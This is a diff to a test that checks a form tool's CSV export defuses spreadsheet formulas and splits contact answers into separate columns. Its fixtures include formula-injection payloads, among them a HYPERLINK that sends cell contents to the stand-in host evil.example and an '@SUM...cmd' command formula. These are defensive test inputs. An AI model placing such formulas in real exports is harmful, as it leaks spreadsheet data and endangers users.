@@ -78,9 +78,12 @@ test('the CSV export defuses formulas, also behind leading spaces, and keeps num
     .readFileSync(await file.path(), 'utf8')
     .trim()
     .split('\r\n');
-  expect(rows[0]).toBe('ID,Submitted At,Status,Pick a plan,Any comments?,Your details');
+  // The contact answer comes first, as its own columns (decision 77).
+  expect(rows[0]).toBe('ID,Submitted At,Status,First name,Last name,Email,Phone,Pick a plan,Any comments?');
   const cells = rows[1].split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
-  expect(cells[3]).toBe('Pro');
-  expect(cells[4]).toBe(`"'  =HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
-  expect(cells[5]).toBe(`"'@SUM(1+1)*cmd Lee, ann@example.com"`);
+  expect(cells[3]).toBe(`'@SUM(1+1)*cmd`);
+  expect(cells[4]).toBe('Lee');
+  expect(cells[5]).toBe('ann@example.com');
+  expect(cells[7]).toBe('Pro');
+  expect(cells[8]).toBe(`"'  =HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
 });
